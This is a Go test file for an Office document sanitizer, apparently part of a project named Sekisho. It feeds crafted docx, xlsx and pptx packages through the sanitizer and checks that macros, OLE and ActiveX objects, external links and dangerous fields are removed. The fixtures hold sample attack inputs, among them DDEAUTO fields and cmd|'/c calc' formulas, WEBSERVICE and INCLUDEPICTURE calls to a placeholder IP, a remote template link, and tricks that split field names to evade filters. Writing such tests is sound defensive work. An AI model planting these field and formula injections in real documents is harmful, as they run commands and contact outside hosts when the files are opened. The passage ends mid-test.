package office_test

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"errors"
	"io"
	"maps"
	"path"
	"slices"
	"strings"
	"testing"

	"github.com/sekisho/sekisho/dataplane/sanitize"
	"github.com/sekisho/sekisho/dataplane/sanitize/container"
	"github.com/sekisho/sekisho/dataplane/sanitize/markup"
	"github.com/sekisho/sekisho/dataplane/sanitize/office/officetest"
	"github.com/sekisho/sekisho/dataplane/sanitize/picture"
	"github.com/sekisho/sekisho/dataplane/sanitize/rebuild"
	"github.com/sekisho/sekisho/dataplane/sanitize/sanitizetest"
	"github.com/sekisho/sekisho/dataplane/verdict"
)

// Short names of what these tests use again and again.
const (
	wNS  = officetest.W
	rNS  = officetest.R
	mcNS = officetest.MC
	vNS  = officetest.V
	pNS  = officetest.P
	xNS  = officetest.X

	typesName = "[Content_Types].xml"
)

var (
	rels    = officetest.Rels
	types   = officetest.Types
	docx    = officetest.Docx
	body    = officetest.Body
	xlsx    = officetest.Xlsx
	pptx    = officetest.Pptx
	run     = sanitizetest.Run
	clean   = sanitizetest.Clean
	blocked = sanitizetest.Blocked
	has     = sanitizetest.Has
)

// partsOf unpacks a result and checks what every package must hold to: known order, well-formed parts, relationships that
// lead to parts, content types of parts that are there.
func partsOf(t testing.TB, b []byte) map[string]string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	parts := map[string]string{}
	for i, f := range z.File {
		if i == 0 && f.Name != typesName {
			t.Errorf("first member is %s", f.Name)
		}
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		body, err := io.ReadAll(r)
		if err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
		r.Close()
		parts[f.Name] = string(body)
	}
	reached := map[string]bool{}
	for name, body := range parts {
		if !strings.HasSuffix(name, ".png") && !strings.HasSuffix(name, ".jpeg") {
			wellFormed(t, name, body)
		}
		if !strings.HasSuffix(name, ".rels") {
			continue
		}
		var doc struct {
			Relationship []struct {
				Id         string `xml:",attr"`
				Type       string `xml:",attr"`
				Target     string `xml:",attr"`
				TargetMode string `xml:",attr"`
			}
		}
		if err := xml.Unmarshal([]byte(body), &doc); err != nil {
			t.Fatal(err)
		}
		for _, r := range doc.Relationship {
			if r.TargetMode == "External" {
				if !strings.HasSuffix(r.Type, "/hyperlink") || !rebuild.SafeURL(r.Target) {
					t.Errorf("%s leads out to %s", name, r.Target)
				}
				continue
			}
			target := path.Join(path.Dir(path.Dir(name)), r.Target)
			reached[target] = true
			if _, ok := parts[target]; !ok && !strings.HasPrefix(r.Target, "#") {
				t.Errorf("%s: %s leads nowhere (%s)", name, r.Id, target)
			}
		}
	}
	for name := range parts {
		if name != typesName && !strings.HasSuffix(name, ".rels") && !reached[name] {
			t.Errorf("%s: nothing leads to it", name)
		}
	}
	return parts
}

func wellFormed(t testing.TB, name, body string) {
	t.Helper()
	d := xml.NewDecoder(strings.NewReader(body))
	for {
		if _, err := d.Token(); errors.Is(err, io.EOF) {
			return
		} else if err != nil {
			t.Errorf("%s is not well-formed: %v\n%.500s", name, err, body)
			return
		}
	}
}

func TestMacroDocumentBecomesPlain(t *testing.T) {
	in := docx(t, map[string]string{
		"[Content_Types].xml": types(map[string]string{
			"word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml", "word/vbaProject.bin": "application/vnd.ms-office.vbaProject",
			"word/vbaData.xml": "application/vnd.ms-word.vbaData+xml", "word/settings.xml": "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml",
			"docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml", "customUI/customUI.xml": "application/xml"}),
		"_rels/.rels": rels("rId1 officeDocument word/document.xml", "rId3 2006/relationships/ui/extensibility customUI/customUI.xml", "rId4 2011/relationships/webextensiontaskpanes word/webextensions/taskpanes.xml", "rId5 extended-properties docProps/core.xml"),
		"word/document.xml": `<w:document ` + wNS + ` ` + rNS + `><w:body><w:p><w:hyperlink r:id="rId8"><w:r><w:t>庁内</w:t></w:r></w:hyperlink><w:hyperlink r:id="rId9"><w:r><w:t>公式</w:t></w:r></w:hyperlink></w:p>` +
			`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>結果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>` +
			`<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;\\198.51.100.9\x&quot;"><w:r><w:t>取込</w:t></w:r></w:fldSimple><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>` +
			`<w:altChunk r:id="rId7"/><w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{1}"/></w:sdtPr><w:sdtContent><w:p><w:r><w:t>枠</w:t></w:r></w:p></w:sdtContent></w:sdt></w:body></w:document>`,
		"word/_rels/document.xml.rels": rels("rId1 2006/relationships/vbaProject vbaProject.bin", "rId2 settings settings.xml", "rId7 aFChunk evil.html", "rId8 hyperlink file://198.51.100.9/share/x.docx External", "rId9 hyperlink https://www.umiyama.example/ External"),
		"word/evil.html":               "<html/>", "word/vbaProject.bin": "\xD0\xCF\x11\xE0 inert look-alike: Sub AutoOpen()", "word/vbaData.xml": "<x/>",
		"word/_rels/vbaProject.bin.rels": rels("rId1 2006/relationships/wordVbaData vbaData.xml"),
		"word/settings.xml":              `<w:settings ` + wNS + ` ` + rNS + `><w:zoom w:percent="100"/><w:attachedTemplate r:id="rId1"/><w:mailMerge/></w:settings>`,
		"word/_rels/settings.xml.rels":   rels("rId1 attachedTemplate http://198.51.100.9/evil.dotm External"),
		"docProps/core.xml":              `<a>tanaka</a>`, "customUI/customUI.xml": `<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="x"/>`,
	})
	rep, out := clean(t, "申請.DOCM", in)
	if rep.OutName != "申請.docx" || rep.Family != "docx" {
		t.Errorf("got %s, %s", rep.OutName, rep.Family)
	}
	for _, code := range []string{"ooxml.vba", "ooxml.template", "ooxml.field", "ooxml.import", "ooxml.link", "ooxml.custom-ui", "ooxml.web-extension", "ooxml.properties", "ooxml.connection"} {
		if !has(rep, code, verdict.Removed) {
			t.Errorf("%s is not reported", code)
		}
	}
	parts := partsOf(t, out)
	all := strings.Join(slices.Collect(maps.Values(parts)), "\n")
	for _, gone := range []string{"vba", "macroEnabled", "DDE", "AUTO", "INCLUDETEXT", "198.51.100.9", "altChunk", "dataBinding", "attachedTemplate", "tanaka", "customUI", "mailMerge"} {
		if strings.Contains(all, gone) {
			t.Errorf("%q is still there", gone)
		}
	}
	for _, stays := range []string{"結果", "取込", "庁内", "公式", "枠", "PAGE", "https://www.umiyama.example/", `w:percent="100"`} {
		if !strings.Contains(all, stays) {
			t.Errorf("%q is lost", stays)
		}
	}
	if rep.Original.Text != rep.Result.Text || !strings.Contains(rep.Result.Text, "結果") {
		t.Errorf("preview: %q and %q", rep.Original.Text, rep.Result.Text)
	}
	again, twice := clean(t, "申請.DOCM", in)
	if !bytes.Equal(out, twice) || again.After.SHA256 != rep.After.SHA256 {
		t.Error("a second rebuild has other bytes")
	}
}

func TestFields(t *testing.T) {
	field := func(instr string) string {
		return `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>` + instr + `</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>R</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`
	}
	for name, c := range map[string]struct {
		inner string
		keep  bool
	}{
		"page":                   {field(`PAGE \* MERGEFORMAT`), true},
		"sum":                    {field(`=SUM(ABOVE)`), true},
		"link to the web":        {field(`HYPERLINK "https://www.umiyama.example/" \o "x"`), true},
		"link inside":            {field(`HYPERLINK \l "bookmark"`), true},
		"link to a share":        {field(`HYPERLINK "\\\\198.51.100.9\\x"`), false},
		"link to a file":         {field(`HYPERLINK file:///c:/x`), false},
		"link behind a switch":   {field(`HYPERLINK \h "file:///c:/x"`), false},
		"dde":                    {field(`DDE cmd x`), false},
		"lower case":             {field(`ddeauto cmd x`), false},
		"picture":                {field(`INCLUDEPICTURE "http://198.51.100.9/x.png" \d`), false},
		"macro button":           {field(`MACROBUTTON Run x`), false},
		"unknown":                {field(`FOO`), false},
		"quote":                  {field(`QUOTE 68 68 69`), false},
		"name by a nested field": {`<w:r><w:fldChar w:fldCharType="begin"/></w:r>` + field(`IF 1`) + `<w:r><w:instrText>X</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`, false},
		"name goes on":           {`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>D</w:instrText></w:r>` + field(`IF 1`) + `<w:r><w:instrText>DE</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`, false},
		"name by two halves":     {`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IN</w:instrText></w:r>` + field(`IF 1`) + `<w:r><w:instrText>DEX</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`, false},
		"never ends":             {`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r>`, false},
		"never begins":           {`<w:r><w:instrText>DDE cmd</w:instrText></w:r>`, false},
		"behind the separator":   {`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/><w:instrText>DDE x</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`, true},
		"element inside":         {field(`DD<w:proofErr/>EAUTO cmd`), false},
		"name inside an element": {field(`<w:r>DDE</w:r>AUTO cmd`), false},
		"harmless but cut":       {field(`PAGE<w:proofErr/>`), false},
		"name that goes":         {field(`<e:x xmlns:e="urn:e">PAGE </e:x>DDEAUTO cmd`), false},
		"run that goes":          {field(`</w:instrText></w:r><e:x xmlns:e="urn:e"><w:r><w:instrText>PAGE </w:instrText></w:r></e:x><w:r><w:instrText>DDEAUTO cmd`), false},
		"part that goes":         {field(`</w:instrText></w:r><w:movie><w:r><w:instrText>PAGE </w:instrText></w:r></w:movie><w:r><w:instrText>DDEAUTO cmd`), false},
		"choice that goes":       {field(`</w:instrText></w:r>` + `<mc:AlternateContent ` + mcNS + ` xmlns:e="urn:e"><mc:Choice Requires="e"><w:r><w:instrText>PAGE </w:instrText></w:r></mc:Choice><mc:Fallback><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></mc:Fallback></mc:AlternateContent><w:r><w:instrText>`), false},
		"choice that stays":      {field(`</w:instrText></w:r>` + `<mc:AlternateContent ` + mcNS + ` xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml"><mc:Choice Requires="w14"><w:r><w:instrText>PAGE </w:instrText></w:r></mc:Choice><mc:Fallback><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></mc:Fallback></mc:AlternateContent><w:r><w:instrText>`), false},
		"choice with its own":    {`<mc:AlternateContent ` + mcNS + ` xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml"><mc:Choice Requires="w14">` + field(`PAGE`) + `</mc:Choice><mc:Fallback>` + field(`PAGE`) + `</mc:Fallback></mc:AlternateContent>`, true},
		"choice in a result":     {`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><mc:AlternateContent ` + mcNS + ` xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml"><mc:Choice Requires="w14"><w:r><w:t>R</w:t></w:r></mc:Choice><mc:Fallback/></mc:AlternateContent><w:r><w:fldChar w:fldCharType="end"/></w:r>`, true},
		"end in a choice":        {`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r><mc:AlternateContent ` + mcNS + ` xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml"><mc:Choice Requires="w14"><w:r><w:fldChar w:fldCharType="end"/></w:r></mc:Choice></mc:AlternateContent>`, false},
		"other prefix":           {`<q:r xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><q:fldSimple q:instr="DDE x"/></q:r>`, false},
		"strict":                 {`<q:fldSimple xmlns:q="http://purl.oclc.org/ooxml/wordprocessingml/main" q:instr="DDE x"/>`, false},
	} {
		_, out := clean(t, "a.docx", docx(t, body(`<w:p>`+c.inner+`<w:r><w:t>AFTER</w:t></w:r></w:p>`)))
		got := partsOf(t, out)["word/document.xml"]
		if kept := strings.Contains(got, "instrText") || strings.Contains(got, "fldSimple"); kept != c.keep {
			t.Errorf("%s: field kept is %v, want %v: %s", name, kept, c.keep, got)
		}
		if strings.Contains(strings.ToUpper(got), "DDE") || strings.Contains(got, "198.51.100.9") || !strings.Contains(got, "AFTER") {
			t.Errorf("%s: %s", name, got)
		}
		if strings.Contains(c.inner, "<w:t>R</w:t>") && !strings.Contains(name, "name") && !strings.Contains(got, "<w:t>R</w:t>") {
			t.Errorf("%s: the result is lost: %s", name, got)
		}
		if strings.Count(got, `"begin"`) != strings.Count(got, `"end"`) {
			t.Errorf("%s: marks do not match: %s", name, got)
		}
	}
}

// TestAFieldThatChangesByWhatGoesIsRefused: an element goes because its relationship is gone, and with it the harmless name of a
// field, which nobody could foresee.
func TestAFieldThatChangesByWhatGoesIsRefused(t *testing.T) {
	blocked(t, "a.docx", docx(t, body(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:smartTag r:id="rId77"><w:r><w:instrText>PAGE </w:instrText></w:r></w:smartTag>`+
		`<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`)), "ooxml.broken")
}

// TestFormulasThatAnElementCuts: a formula is judged by all the text in it, and nothing but text comes out.
func TestFormulasThatAnElementCuts(t *testing.T) {
	_, out := clean(t, "a.xlsx", xlsx(t, []string{"worksheet"}, map[string]string{"xl/worksheets/sheet1.xml": `<worksheet ` + xNS + ` xmlns:n="http://schemas.microsoft.com/office/spreadsheetml/2014/11/main" xmlns:e="urn:e"><sheetData><row r="1">` +
		`<c r="A1"><f>cmd|<v/>'/c calc'!A0</f><v>11</v></c><c r="B1"><f>WEBSERVICE(<v/>"http://198.51.100.9/")</f><v>12</v></c><c r="C1"><f>SUM(<v>1</v>,2)</f><v>13</v></c>` +
		`<c r="D1"><f><v>cmd|'/c calc'!A0</v></f><v>14</v></c><c r="E1"><f>cmd|'/c calc'!A0<f>1</f></f><v>15</v></c><c r="F1"><f>WEB<e:x/>SERVICE("http://198.51.100.9/")</f><v>16</v></c></row></sheetData>` +
		`<conditionalFormatting sqref="A1"><cfRule type="colorScale" priority="1"><colorScale><cfvo type="formula" val="WEBSERVICE(&quot;http://198.51.100.9/&quot;)"/><cfvo type="num" val="5"/></colorScale></cfRule></conditionalFormatting>` +
		`<cacheField name="k" formula="WEBSERVICE(&quot;http://198.51.100.9/&quot;)"/><n:f>cmd|'/c calc'!A0</n:f></worksheet>`}, "SHEETS"))
	sheet := partsOf(t, out)["xl/worksheets/sheet1.xml"]
	for _, gone := range []string{"cmd", "SERVICE", "198.51.100.9", "<f><v"} {
		if strings.Contains(sheet, gone) {
			t.Errorf("%s is still there: %s", gone, sheet)
		}
	}
	for _, stays := range []string{"<f>SUM(1,2)</f>", `<cfvo type="formula" val="0"/>`, `<cfvo type="num" val="5"/>`, "<v>11</v>", "<v>12</v>", "<v>14</v>", "<v>15</v>", "<v>16</v>"} {
		if !strings.Contains(sheet, stays) {
			t.Errorf("%s is lost: %s", stays, sheet)
		}
	}
}

func TestObjectsBecomePictures(t *testing.T) {
	pic := string(pngOf(t, testPicture(4, 4)))
	files := body(`<w:p><w:r><w:object w:dxaOrig="1"><v:shape id="s" href="file:///x" onmouseover="x"><v:imagedata r:id="rId1" src="http://198.51.100.9/x"/></v:shape><o:OLEObject Type="Embed" ProgID="Package" r:id="rId2"/></w:object></w:r>` +
		`<w:r><w:pict><v:shape><v:imagedata r:id="rId3"/></v:shape></w:pict><w:control r:id="rId4"/></w:r></w:p>`)
	files["word/_rels/document.xml.rels"] = rels("rId1 image media/a.png", "rId2 oleObject embeddings/o.bin", "rId3 image media/b.emf", "rId4 control activeX/a.xml")
	files["word/media/a.png"], files["word/media/b.emf"], files["word/embeddings/o.bin"], files["word/activeX/a.xml"] = pic, "\x01\x00\x00\x00emf", "MZ", "<x/>"
	rep, out := clean(t, "a.docx", docx(t, files))
	parts := partsOf(t, out)
	doc := parts["word/document.xml"]
	if strings.Contains(doc, "OLEObject") || strings.Contains(doc, "w:object") || strings.Contains(doc, "control") || strings.Contains(doc, "href") || strings.Contains(doc, "src=") || strings.Contains(doc, "onmouse") {
		t.Errorf("got %s", doc)
	}
	if !strings.Contains(doc, `<w:pict><v:shape id="s"><v:imagedata r:id="rId1"/></v:shape></w:pict>`) {
		t.Errorf("the preview picture is lost: %s", doc)
	}
	if parts["word/media/a.png"] == "" || parts["media/sekisho-blank.png"] == "" {
		t.Errorf("pictures are lost: %v", slices.Sorted(maps.Keys(parts)))
	}
	for _, code := range []string{"ooxml.ole", "ooxml.activex", "ooxml.external"} {
		if !has(rep, code, verdict.Removed) {
			t.Errorf("%s is not reported: %v", code, rep.Findings)
		}
	}
	if !has(rep, "image.replaced", verdict.Changed) {
		t.Errorf("findings %v", rep.Findings)
	}
}

func TestPicturesInsideAreRebuilt(t *testing.T) {
	jp := withSegments(jpegOf(t, testPicture(16, 8)), segment(0xE1, append([]byte("Exif\x00\x00"), exif(6)...)))
	files := body(`<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:embed="rId1"/><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rId2"/></w:drawing></w:r></w:p>`)
	files["word/_rels/document.xml.rels"] = rels("rId1 image media/a.jpg", "rId2 image http://198.51.100.9/track.png External", "rId3 image media/x.gif")
	files["word/media/a.jpg"] = string(jp)
	files["word/media/x.gif"] = "GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
	rep, out := clean(t, "a.docx", docx(t, files))
	parts := partsOf(t, out)
	if strings.Contains(parts["word/media/a.jpeg"], "139.7454") || parts["word/media/a.jpeg"] == "" || !strings.HasPrefix(parts["word/media/x.png"], picture.PNGMagic) {
		t.Errorf("parts %v", slices.Sorted(maps.Keys(parts)))
	}
	if doc := parts["word/document.xml"]; strings.Contains(doc, "r:link") || !strings.Contains(doc, `r:embed="rId2"`) {
		t.Errorf("the linked picture does not show the placeholder: %s", doc)
	}
	if !has(rep, "jpeg.gps", verdict.Removed) || !has(rep, "ooxml.external", verdict.Removed) || !has(rep, "image.converted", verdict.Changed) || has(rep, "image.orientation", verdict.Changed) {
		t.Errorf("findings %v", rep.Findings)
	}
}

// An element that no standard defines goes with all that is in it, wherever it stands, and is named once.
func TestElementsOfNoStandardGo(t *testing.T) {
	rep, out := clean(t, "a.docx", docx(t, body(`<w:p><w:launch w:what="calc"><w:r><w:t>inside</w:t></w:r></w:launch><w:r><w:t>kept</w:t></w:r></w:p><w:p><w:launch/></w:p>`)))
	doc := partsOf(t, out)["word/document.xml"]
	if strings.Contains(doc, "launch") || strings.Contains(doc, "inside") || !strings.Contains(doc, "kept") {
		t.Errorf("got %s", doc)
	}
	told := 0
	for _, f := range rep.Findings {
		if f.Code == "ooxml.unknown-element" && f.Detail == "launch" {
			told++
		}
	}
	if told != 1 {
		t.Errorf("told %d times: %v", told, rep.Findings)
	}
	// What is left out may not turn a harmless instruction into another one.
	split := `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r><w:launch><w:r><w:instrText>X</w:instrText></w:r></w:launch><w:r><w:instrText>E a b</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
	rep, out, _ = sanitizetest.Ask(t, "a.docx", docx(t, body(split)), sanitize.Options{})
	if doc := partsOf(t, out)["word/document.xml"]; rep.Outcome == verdict.Clean && strings.Contains(doc, "DD") {
		t.Errorf("got %s", doc)
	}
}

func TestAlternateContentAndPrefixes(t *testing.T) {
	head := wNS + ` ` + mcNS + ` xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" xmlns:am3d="http://schemas.microsoft.com/office/drawing/2017/model3d" xmlns:zz="urn:zz" mc:Ignorable="w14 zz nn"`
	doc := func(inner string) string {
		_, out := clean(t, "a.docx", docx(t, map[string]string{"word/document.xml": `<w:document ` + head + `><w:body>` + inner + `</w:body></w:document>`}))
		return partsOf(t, out)["word/document.xml"]
	}
	got := doc(`<w:p w14:paraId="1"><mc:AlternateContent><mc:Choice Requires="wps"><wps:wsp/></mc:Choice><mc:Fallback><w:r/></mc:Fallback></mc:AlternateContent></w:p>`)
	if !strings.Contains(got, `mc:Ignorable="w14 zz"`) || !strings.Contains(got, `<mc:AlternateContent><mc:Choice Requires="wps"><wps:wsp/></mc:Choice><mc:Fallback><w:r/></mc:Fallback></mc:AlternateContent>`) || !strings.Contains(got, `w14:paraId="1"`) {
		t.Errorf("got %s", got)
	}
	got = doc(`<w:p><mc:AlternateContent xmlns:q="urn:schemas-microsoft-com:vml"><mc:Choice Requires="am3d"><am3d:model3d/></mc:Choice><mc:Fallback><w:r><w:pict><q:shape/></w:pict></w:r></mc:Fallback></mc:AlternateContent></w:p>`)
	if strings.Contains(got, "AlternateContent") || !strings.Contains(got, `<w:r xmlns:q="urn:schemas-microsoft-com:vml"><w:pict><q:shape/></w:pict></w:r>`) {
		t.Errorf("got %s", got)
	}
	got = doc(`<w:p><mc:AlternateContent><mc:Choice Requires="wps"><w:control/></mc:Choice><mc:Fallback><w:r/></mc:Fallback></mc:AlternateContent></w:p>`)
	if strings.Contains(got, "AlternateContent") || !strings.Contains(got, `<w:p><w:r/></w:p>`) {
		t.Errorf("an emptied choice hides the fallback: %s", got)
	}
	got = doc(`<w:p><mc:AlternateContent><mc:Choice Requires="am3d"><w:r><w:t>new</w:t></w:r></mc:Choice><mc:Fallback><w:r><w:t>old</w:t></w:r></mc:Fallback></mc:AlternateContent></w:p>`)
	if strings.Contains(got, "new") || !strings.Contains(got, "old") {
		t.Errorf("a choice that needs what is not allowed was kept: %s", got)
	}
	got = doc(`<w:p><zz:evil><w:r><w:t>x</w:t></w:r></zz:evil><w:r zz:a="1"><w:t>y</w:t></w:r></w:p>`)
	if strings.Contains(got, "evil") || strings.Contains(got, "zz:a") || !strings.Contains(got, ">y<") {
		t.Errorf("got %s", got)
	}
}

// xlsx has the sheets 1..n by the kinds given ("worksheet", "hidden", "macro").
func TestWorkbookLosesLinksMacroSheetsAndDDE(t *testing.T) {
	in := xlsx(t, []string{"macro", "worksheet", "hidden"}, map[string]string{
		"xl/worksheets/sheet2.xml": `<worksheet ` + xNS + ` ` + rNS + `><sheetData><row r="1">` +
			`<c r="A1"><f>[1]Sheet1!A1</f><v>11</v></c><c r="B1"><f>SUM(A1:A2)</f><v>12</v></c><c r="C1"><f>cmd|'/c calc'!A0</f><v>13</v></c>` +
			`<c r="D1" t="str"><f>WEBSERVICE("http://198.51.100.9/")</f><v>14</v></c><c r="E1"><f>Table1[[#This Row],[Col]]</f><v>15</v></c><c r="F1"><f>S1!A1</f><v>16</v></c>` +
			`<c r="G1"><f>HYPERLINK("https://www.umiyama.example/","x")</f><v>17</v></c><c r="H1"><f>HYPERLINK("\\198.51.100.9\x","x")</f><v>18</v></c>` +
			`<c r="I1"><f t="shared" ref="I1:J1" si="0">[1]S!B1</f><v>19</v></c><c r="J1"><f t="shared" si="0"/><v>20</v></c><c r="K1" t="inlineStr"><is><t>文字</t></is></c></row></sheetData>` +
			`<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>[1]S!A1</formula></cfRule></conditionalFormatting><oleObjects><oleObject progId="x" r:id="rId1"/></oleObjects><controls/></worksheet>`,
	}, `<bookViews><workbookView activeTab="1" firstSheet="0"/></bookViews>SHEETS<externalReferences><externalReference r:id="rId90"/></externalReferences>`+
		`<definedNames><definedName name="Auto_Open" xlm="1">S1!A1</definedName><definedName name="_xlnm.Auto_Open2">S2!A1</definedName><definedName name="_xlnm.Print_Area" localSheetId="1">S2!$A$1</definedName><definedName name="loc" localSheetId="0">S1!$A$1</definedName><definedName name="ext">[1]S!$A$1</definedName><definedName name="gone">S1!$A$1</definedName></definedNames>`)
	rep, out := clean(t, "集計.xlsm", in)
	parts := partsOf(t, out)
	book, sheet := parts["xl/workbook.xml"], parts["xl/worksheets/sheet2.xml"]
	for _, want := range []string{`activeTab="0"`, `<definedName name="_xlnm.Print_Area" localSheetId="0">S2!$A$1</definedName>`, `<definedName name="ext">#REF!</definedName>`, `<definedName name="gone">#REF!</definedName>`, `name="S2"`, `state="hidden"`} {
		if !strings.Contains(book, want) {
			t.Errorf("workbook lacks %s: %s", want, book)
		}
	}
	for _, gone := range []string{"S1", "xternal", "uto_", `"loc"`} {
		if strings.Contains(book, gone) {
			t.Errorf("workbook still has %s: %s", gone, book)
		}
	}
	for _, want := range []string{`<c r="A1"><v>11</v>`, `<f>SUM(A1:A2)</f><v>12</v>`, `<c r="C1"><v>13</v>`, `<c r="D1" t="str"><v>14</v>`, `<f>Table1[[#This Row],[Col]]</f>`, `<c r="F1"><v>16</v>`, `<f>HYPERLINK("https://www.umiyama.example/","x")</f>`,
		`<c r="H1"><v>18</v>`, `<c r="I1"><v>19</v>`, `<c r="J1"><v>20</v>`, `<formula>#REF!</formula>`, `文字`} {
		if !strings.Contains(sheet, want) {
			t.Errorf("sheet lacks %s: %s", want, sheet)
		}
	}
	if strings.Contains(sheet, "oleObject") || strings.Contains(sheet, "controls") {
		t.Errorf("sheet still has objects: %s", sheet)
	}
	for _, code := range []string{"ooxml.macro-sheet", "ooxml.external-book", "ooxml.formula", "ooxml.vba", "ooxml.ole", "ooxml.macro-call"} {
		if !has(rep, code, verdict.Removed) {
			t.Errorf("%s is not reported: %v", code, rep.Findings)
		}
	}
	if !has(rep, "ooxml.hidden-sheet", verdict.Reported) || rep.OutName != "集計.xlsx" {
		t.Errorf("%s %v", rep.OutName, rep.Findings)
	}
	if len(parts) != 6 {
		t.Errorf("parts %v", slices.Sorted(maps.Keys(parts)))
	}
}

// Findings name what a reader knows: the sheet by its tab, with the cell, and the slide by its number.
func TestFindingsNameSheetCellAndSlide(t *testing.T) {
	at := func(rep verdict.Report, code string) (places []string) {
		for _, f := range rep.Findings {
			if f.Code == code {
				places = append(places, f.Place)
			}
		}
		return places
	}
	rep, _ := clean(t, "a.xlsm", officetest.Xlsx(t, []string{"worksheet", "worksheet"}, map[string]string{"xl/worksheets/sheet2.xml": `<worksheet ` + officetest.X + `><sheetData><row r="7"><c r="B7"><f>WEBSERVICE("http://198.51.100.9/")</f><v>1</v></c><c r="C7"><v>1</v></c></row></sheetData><controls/></worksheet>`}, "SHEETS"))
	if got := at(rep, "ooxml.formula"); !slices.Equal(got, []string{"S2!B7"}) {
		t.Errorf("formula at %v", got)
	}
	if got := at(rep, "ooxml.activex"); !slices.Equal(got, []string{"S2"}) {
		t.Errorf("control at %v", got)
	}
	rep, _ = clean(t, "a.pptm", officetest.Pptx(t, `<p:cSld><p:spTree/><p:controls/></p:cSld>`, nil, nil))
	if got := at(rep, "ooxml.activex"); !slices.Equal(got, []string{"p1"}) {
		t.Errorf("control at %v", got)
	}
}

func TestWorkbookOfMacroSheetsOnlyIsRefused(t *testing.T) {
	blocked(t, "a.xlsm", xlsx(t, []string{"macro"}, nil, "SHEETS"), "ooxml.macro-sheet")
	_, out := clean(t, "a.xlsm", xlsx(t, []string{"macro", "hidden"}, nil, "SHEETS"))
	if book := partsOf(t, out)["xl/workbook.xml"]; strings.Contains(book, "hidden") {
		t.Errorf("no sheet can be seen: %s", book)
	}
}

func TestPresentationLosesMacrosObjectsAndMedia(t *testing.T) {
	slide := `<p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id="2" name="b"><a:hlinkClick r:id="" action="ppaction://macro?name=x"/></p:cNvPr></p:nvSpPr><p:txBody><a:p><a:r><a:rPr><a:hlinkClick r:id="rId3"/></a:rPr><a:t>題名</a:t></a:r></a:p></p:txBody></p:sp>` +
		`<p:sp><p:nvSpPr><p:cNvPr id="3" name="next"><a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/></p:cNvPr></p:nvSpPr></p:sp>` +
		`<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="7" name="表"/></p:nvGraphicFramePr><p:xfrm/><a:graphic><a:graphicData uri="ole"><mc:AlternateContent><mc:Choice Requires="v"><p:oleObj r:id="rId1" progId="x"><p:embed/></p:oleObj></mc:Choice>` +
		`<mc:Fallback xmlns:q="http://schemas.openxmlformats.org/drawingml/2006/main"><p:oleObj r:id="rId1" progId="x"><p:embed/><p:pic><p:nvPicPr><p:cNvPr id="0" name=""/></p:nvPicPr><p:blipFill><q:blip r:embed="rId2"/></p:blipFill></p:pic></p:oleObj></mc:Fallback></mc:AlternateContent></a:graphicData></a:graphic></p:graphicFrame>` +
